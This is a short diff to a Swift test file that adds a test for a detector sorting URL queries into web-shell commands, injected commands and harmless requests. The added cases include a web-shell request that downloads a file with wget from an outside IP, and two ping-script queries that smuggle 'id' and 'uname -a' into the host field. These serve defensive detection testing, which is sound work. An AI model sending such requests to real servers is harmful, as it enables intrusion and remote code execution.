@@ -37,6 +37,12 @@ import Testing
         #expect(ShellQuery.isCommand(RawText(target)))
     }
 
+    @Test func `tell a web shell's command from one that breaks out of what a page does`() {
+        #expect(ShellQuery.kind("/x.php?cmd=cd+/tmp;wget+http://198.51.100.9/l") == .command)
+        #expect(ShellQuery.kind("/ping.cgi?host=127.0.0.1;id") == .injected)
+        #expect(ShellQuery.kind("/ping.cgi?host=%7Cuname%20-a") == .injected)
+    }
+
     @Test(arguments: [
         "/list.php?sort=id", "/search.php?q=python+tutorial", "/pets.php?kind=cat", "/a.php?lang=sh", "/forum.php?cmd=list", "/x.php",
         "/search?q=curl", "/search?q=wget+options", "/c.php?cmd=ls&target=l1_Lw", "/q?title=Salt%20%26%20cat", "/q?t=a%3B+dir+en+grey",
